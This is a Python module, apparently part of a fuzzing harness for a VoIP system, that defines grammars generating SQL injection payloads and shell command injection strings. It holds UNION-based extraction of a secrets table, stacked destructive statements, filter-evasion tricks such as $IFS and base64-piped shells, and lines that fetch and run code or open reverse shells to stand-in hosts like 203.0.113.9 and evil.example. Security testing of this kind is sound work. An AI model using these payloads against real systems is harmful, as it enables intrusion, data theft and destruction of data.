"""The productions of which payloads are composed: SQL behind a quote or a number, and commands for a shell.

Sloppy on purpose: what does nothing when it is run is thrown away, so that a production need only be right sometimes.
"""

from __future__ import annotations

from typing import Final

from grammar import Grammar

_NAMES: Final = ["x", "1", "bob", "admin", "100", "+15551234", "a.b", "nobody", "0", "-1", "Alice", "sip", "7001", ""]

_SQL: Final[dict[str, list[str]]] = {
    "word": _NAMES,
    "s": [" ", " ", " ", " ", "\t", "/**/", "  ", "/*x*/", "+", "(", ""],
    "sp": [" ", " ", " ", "\t", "/**/", "/*-*/", "  "],
    "n": ["0", "1", "2", "7", "42", "1e0", ".5", "0x1", "-1", "3.0", "99"],
    "table": ["subscriber", "secrets", "location", "acc", "users", "main.secrets", "public.secrets", '"secrets"', "`secrets`"],
    "col": ["id", "username", "password", "domain", "name", "secret", "rowid", "s.id"],
    "cols": [
        "*", "secret", "secret,1", "1,secret", "secret,secret", "secret,1,2", "1,secret,3", "null,secret,null", "name,secret",
        "group_concat(secret)", "string_agg(secret,',')", "max(secret)", "secret||name", "concat(secret,name)", "hex(secret)",
        "1,2,group_concat(secret)", "quote(secret),2,3", "upper(secret),2,3", "secret as a,2 as b,3 as c", "1,(secret),2",
    ],
    "end": [
        "-- ", "--", "-- -", "--+", "#", ";", ";-- ", "/*", " -- x", ";#", "--x", ")-- ", ") -- ", "))--", "))#", ")#", ";--", "", "`",
        " limit 5-- ", " limit 9#", " order by 1-- ", " group by 1-- ", " offset 0-- ", " for update-- ", "\t--\t", "/* ", "--\t",
    ],
    "reopen": [
        " or «q»a«q»=«q»b", " or «q»", " and «q»1«q»=«q»1", " or «q»1", "||«q»", " and «q»x", " or «q»z«q»«lt»«q»a", "+«q»", " or «q»a«q» like «q»b",
        " in («q»1", " or not «q»", "-«q»", " is not «q»", "!=«q»", "<>«q»", ">«q»", "<=«q»z", "|«q»1", "&«q»1", "^«q»1", "*«q»1", "/«q»1", "%«q»7", "<<«q»1",
        " like «q»%", " not like «q»zz", " glob «q»*", " ilike «q»%", " rlike «q».", " regexp «q».", " ~ «q».", " ~* «q».", " similar to «q»%", " !~ «q»zz",
        " between «q»a«q» and «q»z", " div «q»1", " mod «q»3", " xor «q»1", " || «q»1", " && «q»1", " sounds like «q»", " collate nocase or «q»1", " <=> «q»z", " == «q»", " is «q»", " is distinct from «q»q",
        " isnull or «q»1", " notnull or «q»1", " match «q»a", "=«q»", "='' or «q»1", "!= any(select«q»1«q») or «q»1",
    ],
    "bool": ["or", "OR", "Or", "||", "xor", "and", "AND", "or not", "or+", "or-", "or!", "or~", "|", "or/**/", "oR", "and not", "^", "is null or", "is not true or", "=0 or", "in(1)or", "between 0 and 0 or", "like 0 or", "<>0 or"],
    "truth": [
        "«n»=«n»", "1=1", "2>1", "true", "not false", "«col»", "«col» is not null", "«col»«lt»«n»", "«q»a«q»=«q»a«q»", "«q»a«q»«lt»«q»b«q»", "exists(select 1)", "exists(select*from «table»)",
        "1 in (1)", "2 between 1 and 3", "-1", "~0", "!0", "length(«col»)>0", "«col» like «q»%«q»", "«col»=«col»", "1<2", "1", "coalesce(1,0)", "ifnull(1,0)", "nullif(1,0)", "abs(-1)", "case when 1 then 1 end",
        "(select 1)", "(select count(*) from «table»)", "not 0", "1!=2", "1<>2", "«col» not in (0)", "«col» between «n» and 99", "username is not distinct from username", "id&1", "id|1", "id%2=1", "+id", "(id)", "id-0", "9>=id",
        "ascii(«col»)", "char_length(«col»)", "sign(1)", "pi()", "current_date is not null", "1=1=1", "(1)=(1)", "null is null", "unhex(31)", "row(1,2)=(1,2)", "random() is not null", "typeof(id)<>«q»x«q»", "cast(1 as bool)", "1::bool", "id::text ~ «q».«q»", "id is true",
    ],
    "lt": ["<", "<=", ">", ">=", "!=", "<>"],
    "select": ["select", "SELECT", "SeLeCt", "select all", "select distinct", "select/**/", "(select", "values(1,2,3) union select", "select+"],
    "union": ["union", "UNION", "union all", "UNION ALL", "uNiOn", "union distinct", "union/**/all", "except select 1,2,3 union", "intersect select 1,2,3 union"],
    "statement": [
        "drop table «table»", "drop table if exists «table»", "delete from «table»", "delete from «table» where 1", "delete from «table» where true", "truncate «table»", "truncate table «table»", "update «table» set password=«n»",
        "update subscriber set password=username", "update secrets set secret=1", "insert into secrets values(9,9)", "insert into acc select 9,secret,1 from secrets", "insert into location default values", "replace into secrets values(1,9)",
        "alter table «table» rename to pwn", "alter table «table» add pwn int", "alter table «table» drop column password", "create table pwn(a int)", "create view pwn as select*from secrets", "create table pwn as select*from secrets",
        "create index pwn on secrets(name)", "drop view if exists v;drop table secrets", "with a as(select 1)delete from secrets", "begin;delete from secrets;commit", "vacuum;delete from acc", "merge into secrets using acc on true when matched then delete",
        "create trigger pwn after insert on acc begin delete from secrets;end", "rename table secrets to pwn", "delete s from secrets s", "delete from secrets using secrets", "update secrets s set name=1", "copy secrets to stdout;delete from secrets", "do «q»begin delete from secrets;end«q»",
        "prepare p as delete from secrets;execute p", "handler secrets open;delete from secrets", "set @a=0x64656c6574652066726f6d2073656372657473;prepare p from @a;execute p", "execute immediate concat(«q»delete from «q»,«q»secrets«q»)", "lock tables secrets write;delete from secrets",
        "explain analyze delete from secrets", "create or replace view pwn as select 1", "create role pwn", "grant all on secrets to public", "comment on table secrets is null;delete from secrets", "cluster;delete from acc", "select 1 into pwn",
        "insert into subscriber(id,username)values(9,«q»pwn«q»)", "insert into secrets(name)select username from subscriber", "update subscriber set username=«q»a«q»||id", "call pwn();", "drop schema public cascade", "reindex;drop table acc", "create sequence pwn", "alter role current_user with password «q»x«q»",
    ],
    "string": [
        "«word»«q»«s»«bool»«s»«truth»«s»«end»", "«word»«q»«s»«bool»«s»«truth»«s»«end»", "«word»«q»«s»«bool»«s»«truth»«reopen»", "«word»«q»«s»«union»«sp»«select»«sp»«cols»«sp»from«sp»secrets«end»", "«word»«q»«sp»«union»«sp»«select»«sp»«cols»«sp»from secrets«end»",
        "«word»«q»«s»«reopen»", "«word»«q»«reopen»", "«word»«q»«reopen»", "«word»«q»«end»", "admin«q»«end»", "«word»«q»;«statement»«end»", "«word»«q»«s»;«s»«statement»«end»", "«word»«q»);«statement»«end»", "«word»«q»,1,1);«statement»«end»",
        "«word»«q»«s»is«sp»«is»«s»«end»", "«word»«q»,password=«n»«end»", "«word»«q»,password=«q»x«q»«end»", "«word»«q»,secret,1 from secrets«end»", "«word»«q»||(select secret from secrets)||«q»", "«word»«q»||(«select» max(secret) from secrets)||«q»", "«word»«q»,(select secret from secrets limit 1))«end»",
        "«word»«q»,(select max(secret)from secrets),«q»1«q»)«end»", "«word»«q»«sp»where«sp»«truth»«end»", "«word»«q»=«q»«word»«q»«s»«bool»«s»«truth»«end»", "«word»«q»)«s»«bool»«s»«truth»«end»", "«word»«q»)«s»«bool»«s»(«truth»)«end»", "«word»«q»)«s»«union»«sp»select«sp»«cols»«sp»from secrets«end»",
        "«word»«q»+(select min(secret) from secrets)+«q»", "«word»«q» collate utf8mb4_bin or «truth»«end»", "\\«q»«s»«bool»«s»«truth»«end»", "«word»«q»«q»«q»«s»or«s»«truth»«end»", "«word»«q» and 0 «union» «select» «cols» from secrets«end»", "«word»«q» returning password«end»",
    ],
    "is": ["false", "not true", "null", "not null", "true", "unknown", "not unknown", "distinct from 1", "not 1", "false or 1", "not false"],
    "number": [
        "«n» or «truth»", "«n»«sp»«bool»«sp»«truth»", "«n»«sp»«bool»«sp»«truth»«end»", "«n»)«sp»or«sp»«truth»«end»", "«n» «union» «select» «cols» from secrets", "«n»«sp»«union»«sp»select«sp»«cols»«sp»from«sp»secrets«end»", "«n»;«statement»", "«n»;«statement»«end»", "id«end»",
        "«n»=«n»", "«n»|id", "(select id)", "id or 1", "if(1,id,0)", "iif(1,id,0)", "case when 1 then id end", "coalesce(id)", "any(select id)", "«n»||id", "greatest(id,0)", "max(id,0)", "id is not null", "all(select id)", "«n» or(id)", "«n»or id", "«n»||«truth»",
    ],
    "q": ["'"],
}  # fmt: skip
#: Behind a single quote, and numbers.
SQL: Final = Grammar(_SQL)
#: The same behind a double quote.
SQL_DOUBLE: Final = Grammar({**_SQL, "q": ['"']})

_SHELL: Final[dict[str, list[str]]] = {
    "word": _NAMES,
    "f": ["pwn", "./pwn", "p", "pwn.php", "a", "$HOME/pwn", "pw''n", "~/p", "p$$", "x.sh", "pwn*"],
    "s": [" ", " ", " ", " ", "\t", "${IFS}", "$IFS", "$IFS$9", "  ", "${IFS%?}"],
    "url": ["http://203.0.113.9/x", "203.0.113.9", "198.51.100.7:8080/a.sh", "evil.example/a", "ftp://203.0.113.9/x", "//0xcb007109/a", "[2001:db8::9]"],
    "write": [
        "touch«s»«f»", ">p", ">./«f»", ":>p", ": >p", "mkdir«s»«f»", "cp«s»secret«s»«f»", "cp secret{,2}", "tee«s»«f»", "tee p<secret", "ln«s»-s«s»x«s»«f»", "ln secret p", "dd«s»of=p", "dd if=secret of=p", "truncate«s»-s1«s»p", "mktemp -p .", "mv secret p", "rm«s»secret", "rm -rf *", "rm -f ./*", "unlink secret",
        "sed -n wp secret", "sed -i d secret", "awk 'BEGIN{print>\"p\"}'", "split secret", "install secret p", "mknod p p", "mkfifo«s»«f»", "tar«s»cf«s»p«s»secret", "gzip secret", "gzip«s»-k«s»secret", "bzip2 secret", "xz secret", "zip p secret", "printf«s»x>p", "echo«s»x>p", "echo x>>p", "id>p", "uname -a>p", "env>p", "set>p", "ls>p", "w>p", "ps>p", "date>p", "pwd>p", "export>p", "type cd>p", "umask>p", "hostname>p",
        "chmod«s»777«s»secret", "chmod 0 .", "shred -u secret", "truncate -s0 secret", "cat secret>p", "cat<secret>p", "sort -o p secret", "find . -fprint p", "find . -delete", "find secret -exec touch p {} +", "xargs touch<secret", "perl -e 'open F,\">p\"'", "python3 -c 'open(\"p\",\"w\")'", "openssl rand -out p 9", "script -c id p", "csplit secret 1", "ex -sc 'w p|q' secret", "wc secret>p", "yes|head -1>p", "seq 3>p",
    ],
    "read": [
        "cat«s»secret", "cat secret", "cat<secret", "cat *", "cat s*", "cat ./s??r*", "head«s»secret", "tail«s»secret", "tail -n1 secret", "nl secret", "tac secret", "sort secret", "grep«s».«s»secret", "grep -r .", "cut -c1- secret", "paste secret", "fold secret", "dd if=secret", "awk 1 secret", "sed p secret", "sed '' secret", "read x<secret;echo $x", ". ./secret", "source secret", "diff secret /dev/null", "more secret", "less secret", "pr secret", "expand secret", "uniq secret", "fmt secret", "comm secret /dev/null", "join secret secret", "xargs<secret", "echo $(cat secret)", "echo `cat secret`", "echo $(<secret)", "mapfile a<secret;echo ${a[@]}", "while read l;do echo $l;done<secret", "column secret", "look '' secret", "tee<secret", "shuf secret", "tsort secret", "ptx secret", "wall secret", "egrep . secret", "cat -- secret", "cat -n secret", "$(echo cat) secret", "bash<secret", "sh secret", "date -f secret", "file -f secret", "strings secret", "od -c secret|cat secret", "printf %s \"$(cat secret)\"", "zcat -f secret", "perl -pe1 secret", "python3 secret", "env -i cat secret", "nice cat secret", "timeout 9 cat secret", "nohup cat secret", "stdbuf -o0 cat secret", "setsid cat secret", "command cat secret", "builtin echo $(cat secret)", "eval cat secret", "exec cat secret", "(cat secret)", "{ cat secret; }", "if :;then cat secret;fi", "for i in *;do cat $i;done", "case x in x)cat secret;esac", "! cat secret", "time cat secret", "trap 'cat secret' 0", "until cat secret;do :;done", "f(){ cat secret;};f",
    ],
    "stub": [
        "reboot", "halt", "poweroff", "shutdown -h now", "shutdown«s»-r«s»now", "init 0", "telinit 6", "pkill kamailio", "pkill -9 asterisk", "killall kamailio", "killall«s»asterisk", "wget«s»«url»", "wget -qO- «url»|sh", "curl«s»«url»", "curl -s «url» -o p", "curl «url»|bash", "nc«s»203.0.113.9«s»4444", "nc -e /bin/sh 203.0.113.9 4444", "ncat 203.0.113.9 9001 -c sh", "kamctl ul show", "kamctl rm alice", "kamcmd core.shm", "kamcmd«s»core.kill", "asterisk -rx 'core stop now'", "asterisk -rx reload", "fs_cli -x shutdown", "systemctl stop kamailio", "systemctl«s»reboot", "service kamailio stop", "iptables -F", "nft flush ruleset", "useradd x", "passwd -d root", "crontab -r", "mysql -e 'drop database x'", "psql -c 'drop table x'", "sqlite3 a.db .dump", "telnet 203.0.113.9", "ssh x@203.0.113.9", "scp secret x@203.0.113.9:", "sudo id", "su -c id", "mount -o remount,rw /", "docker ps", "ping -c9 203.0.113.9", "nslookup $(id).evil.example", "dig x.evil.example", "host evil.example", "mail -s x a@evil.example", "sendmail a@evil.example", "rsync secret 203.0.113.9::x", "tftp 203.0.113.9", "ftp 203.0.113.9", "socat tcp:203.0.113.9:9 exec:sh", "php -r 'phpinfo();'", "ruby -e 1", "node -e 1", "lua -e x", "lynx«s»«url»", "aria2c «url»", "busybox wget «url»", "apt-get install x", "rpm -e x", "yum -y remove x", "snap remove x", "at now", "batch", "screen -dm sh", "tmux new -d sh", "gdb -p 1", "strace -p 1", "tcpdump -w p", "nmap 203.0.113.0/24", "ip link set eth0 down", "ifconfig eth0 down", "route del default", "hping3 x", "opensipsctl fifo which", "rasterisk -x reload", "sipsak -s sip:x", "sngrep -O p", "fail2ban-client stop", "logger x", "journalctl -x", "chattr -i x", "setfacl -m x", "openvpn x", "stunnel x", "xterm -e sh", "vim -c :q", "nano x", "emacs -batch", "git clone «url»", "svn co «url»", "pip install x", "npm i x", "gcc x.c", "make -f x", "java -jar x", "iconv -l", "losetup -a", "swapoff -a", "modprobe x", "rmmod x", "sysctl -w x=1", "dmesg -C", "hwclock -s", "chpasswd", "visudo", "dpkg -r x",
    ],
    "hidden": [
        "t''ouch«s»p", "to\\uch p", "to$@uch p", "to$()uch p", "tou``ch p", "to${x}uch p", "/usr/bin/t?uch p", "/bin/to[u]ch p", "/*/t*uch p", "{touch,p}", "{touch,p,q}", "$(printf touch) p", "$'\\x74ouch' p", "$'\\164ouch' p", "a=touch;$a p", "a=to b=uch;$a$b p", "`echo touch` p", "echo dG91Y2ggcA==|base64 -d|sh", "sh<<<'touch p'", "X=p;touch $X", "printf 'touch p'|sh", "echo touch p|bash", "eval 'tou''ch p'", "c''at secret", "c\\at secret", "ca$@t secret", "/bin/c?t secret", "/b[i]n/ca[t] secret", "/???/c?t s??ret", "{cat,secret}", "cat$IFS'secret'", "\"cat\" secret", "'cat' secret", "c\"\"at secret", "re''boot", "re$()boot", "re\\boot", "r$@eboot", "reboot|$SHELL", "echo reboot|$0", "echo reboot|sh", "re${z}boot", "$(echo reboot)", "`echo reboot`", "$(tr a-z b-za<<<qdannz)", "rev<<<'p hcuot'|sh", "${0##-} -c reboot", "$SHELL -c reboot", "sh -c reboot", "bash -c 'touch p'", "dash -c 'touch p'", "env sh -c reboot", "xargs -I{} sh -c {}<<<reboot", "command touch p", "env touch p", "nice touch p", "timeout 1 touch p", "nohup touch p", "exec touch p", "\\touch p", "'touch' p", "\"touch\" p", "builtin eval touch p", "IFS=_;a=touch_p;$a", "a=p;>$a", "alias x=reboot;eval x", "set touch p;$@", "set -- touch p;\"$@\"", "history -c;touch p", "printf -v a touch;$a p", "((1))&&>p", "[[ 1 ]]&&>p", "[ 1 ]&&>p", "test 1&&>p", ":|tee p", "true&&>p", ">p 2>&1", "1>p", "2>p", "<>p", "&>p", ">|p", "exec>p", "exec 3>p", "cat<<<x>p", "touch p;:", "touch -- p", "awk 'BEGIN{system(\"reboot\")}'", "find . -exec reboot {} +", "sed 1e\\ reboot secret", "perl -e 'system reboot'", "python3 -c 'import os;os.system(\"reboot\")'", "xargs reboot</dev/null", "yes|xargs -n1 -r reboot", "parallel ::: reboot", "watch -n1 reboot", "env -S reboot", "tar cf /dev/null secret --checkpoint=1 --checkpoint-action=exec=reboot", "trap reboot 0", "PATH=$PATH reboot",
    ],
    "command": ["«write»", "«write»", "«read»", "«read»", "«stub»", "«stub»", "«hidden»", "«hidden»", "«stub»;«read»", "«read»|«stub»", "cd .;«write»", "(«write»)", "{ «write»;}", "! «write»", "if :;then «write»;fi", "for i in 1;do «write»;done", "«write»&", "while :;do «write»;break;done", "x=1 «write»", "«stub» 2>&1", "«stub» >/dev/null", "«stub»|cat", "sleep 0;«write»"],
    "sep": [";", ";", "; ", "&", "& ", "|", "| ", "&&", " && ", "||", " ; ", " | ", " & ", "|&", ";;", "\t;", ";:;", ";true;", "|:;", "&:&", " ||:;", ";\t", ";#x;", "|true&&"],
    "tail": ["", "", "", ";", " #", "&", "|", ";#", ";:", " ;", "|cat", "||x", "&&x", ";exit", " #'", ";x", "& x", "#"],
    "unquoted": ["«word»«sep»«command»«tail»", "«word»«sep»«command»«tail»", "«sep»«command»«tail»", "$(«command»)", "«word»$(«command»)", "`«command»`", "«word»`«command»`«word»", "$( «command» )", "«word»$(«command»)«word»", "${x:-$(«command»)}", "${x:=`«command»`}", "$((`«command»`))", "<(«command»)", "«word» <(«command»)", "«word»>p", "«word» >p", "«word»>>p", "«word» 2>p>p", "<secret", "«word»;. ./secret", "$(<secret)", "`cat<secret`", "$(cat s*)", "«word»|sh -c «hidden»", "{,$(«command»)}", "a[$(«command»)]=1", "«word»)«sep»«command»;(«word»", "«word»;}«sep»«command»"],
    "double": ["$(«command»)", "`«command»`", "«word»$(«command»)", "\"«sep»«command»«sep»\"", "«word»\"«sep»«command»«tail»\"", "«word»\"«sep»«command» #", "\"$(«command»)\"", "${x:-$(«command»)}", "«word»`«command»`«word»", "\">p\"", "«word»\">p;\"", "$((`«command»`))", "\" >p \"", "\"`«command»`", "«word» $( «command» )", "$(<secret)", "${x-`«command»`}", "\"<<<`«command»`\"", "\";«command»;echo \""],
    "single": ["'«sep»«command»«sep»'", "«word»'«sep»«command» #", "«word»'«sep»«command»«sep»'«word»", "'$(«command»)'", "'`«command»`'", "«word»'`«command»`'", "'>p'", "«word»'>p;'", "' >p '", "'«sep»«command»«tail»'", "'\"$(«command»)\"'", "'${x:-$(«command»)}'", "';«command»;echo '", "'|«stub»;'", "'&«stub»&'", "'<(«command»)'", "'\n«command»\n'"],
    "argument": ["-o p secret", "-op secret", "--output=p secret", "-fo p secret", "-T. -o p secret", "--out p secret", "-uo p secret", "-mo./p secret", "-o«f» secret", "-o «f» s*", "--output=«f» ./secret", "-ro\tp\tsecret"],
}  # fmt: skip
_SHELL["single"] = [choice for choice in _SHELL["single"] if "\n" not in choice]

#: Commands, in the places that a shell command line has for a value.
SHELL: Final = Grammar(_SHELL)

#: Whose programs stand for what they would do to the machine: each only says that it ran.
STOOD_IN_FOR: Final = tuple(sorted({choice.replace("«", " ").split()[0] for choice in _SHELL["stub"]}))
